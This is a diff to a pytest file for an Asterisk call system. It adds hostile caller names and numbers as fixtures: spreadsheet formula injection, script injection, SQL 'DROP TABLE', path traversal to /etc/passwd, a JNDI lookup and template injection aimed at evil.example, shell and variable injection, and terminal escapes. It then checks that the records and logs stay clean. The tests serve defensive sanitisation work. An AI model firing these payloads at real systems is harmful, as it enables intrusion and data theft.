@@ -8,9 +8,14 @@ from __future__ import annotations
 import base64
 import itertools
 import re
+import unicodedata
 
 import pytest
 
+from api.calls.fold import fold
+from ivr.kernel.clock import SystemClock
+from routing.ledger import cel
+from routing.ledger.rows import AcceptedRow, RejectedRow
 from tests.asterisk.exchange import Exchange
 
 NAMES = {
@@ -20,13 +25,21 @@ NAMES = {
     "lines": 'Ali\r\nEvent: Forged\r\n"USER_DEFINED","1.000000","final"\n1|x|general|NONE|ABANDON|1|1|1',
     "bars": "a|b,c;d${SHELL(id)}&e",
     "door": "x\nagi_network_script: survey\n\n",
+    "formula": '=1+1 @SUM(A1:A9) +cmd|"/c calc"!A1 \t=HYPERLINK("http://evil.example")',
+    "page": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
+    "unseen": "\u202egnp.exe\u202c\u200b\ufeff\u2066x\u2069\u061c",
+    "database": "'; DROP TABLE call_record; --",
+    "path": "../../../../etc/passwd\x00.wav",
+    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a} ${CALLERID(num)} ${GLOBAL(TEST_KEYS)}",
+    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b31m",
 }
 WAYS = ("direct", "dialled")
-NUMBER = '0912\r\n"forged"|${EPOCH},\x00\x1b'.replace("\x00", "")
+NUMBER = '0912\r\n"forged"|${EPOCH},\x1b=1+1<b>../\u202e'
 
 
 def encoded(text: str) -> str:
-    return base64.b64encode(text.encode()).decode()
+    """As the console takes it in a command; a NUL would end the text inside Asterisk, so none is sent."""
+    return base64.b64encode(text.replace("\0", "").encode()).decode()
 
 
 @pytest.fixture(scope="module")
@@ -50,7 +63,7 @@ def calls(exchange: Exchange) -> dict[tuple[str, str], str]:
     def ended() -> bool:
         return set(made.values()) <= {row.call for row in exchange.rows() if row.name == "LINKEDID_END"}
 
-    exchange.until(ended, 15, "not every call ended")
+    exchange.until(ended, 30, "not every call ended")
     return made
 
 
@@ -61,7 +74,8 @@ def test_an_identity_forges_nothing(exchange: Exchange, calls: dict[tuple[str, s
     assert [row.name for row in rows].count("offered") == 1
     assert [row.name for row in rows].count("final") == 1
     offered = next(row for row in rows if row.name == "offered")
-    assert re.fullmatch(r"[0-9+]*", offered.columns["cid_num"])
+    for field in ("cid_num", "cid_ani", "cid_rdnis", "cid_dnid"):
+        assert re.fullmatch(r"[0-9+]*", offered.columns[field]), field
     assert not re.search(r"[\x00-\x1f,|]", offered.columns["cid_name"])
     if kind in ("persian", "long"):
         assert offered.columns["cid_name"] == NAMES[kind]
@@ -78,3 +92,30 @@ def test_no_ledger_has_a_row_of_another_call(exchange: Exchange, calls: dict[tup
             assert (line[2], line[3], line[4] in events) == ("q-general", "NONE", True)
         else:
             assert line[1] == "NONE" or line[1].startswith("bench-")
+
+
+def test_every_reader_makes_a_harmless_record_of_it(exchange: Exchange, calls: dict[tuple[str, str], str]) -> None:
+    """From the ledger to what pages and programs are given: nothing that steers a page, a terminal or a database."""
+    raw = (exchange.settings.asterisk / "log" / "cel-custom" / "line.csv").read_bytes()
+    read = cel.scan(raw, 0, SystemClock().now())
+    assert [row for row in read.rows if isinstance(row, RejectedRow)] == []
+    events = [row.event for row in read.rows if isinstance(row, AcceptedRow)]
+    for (kind, way), call in calls.items():
+        record = fold([event for event in events if event.call_id == call])
+        assert record is not None, (kind, way)
+        assert re.fullmatch(r"[0-9+]*", record.caller)
+        steering = [
+            letter for letter in record.caller_name if unicodedata.category(letter) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
+        ]
+        assert set(steering) <= {"\u200c"}, (kind, way, steering)
+        assert len(record.caller_name) <= 200
+
+
+def test_no_door_says_the_name_or_the_number_to_its_log(exchange: Exchange, calls: dict[tuple[str, str], str]) -> None:
+    logs = [path.read_bytes() for path in exchange.var.glob("doors-*.out")]
+    assert logs
+    for log in logs:
+        assert b"\x1b" not in log
+        assert all(line.startswith(b"{") for line in log.splitlines())
+        for mark in (b"<script>", b"DROP TABLE", b"owned", b"=1+1", b"gnp.exe", b"7*7"):
+            assert mark not in log
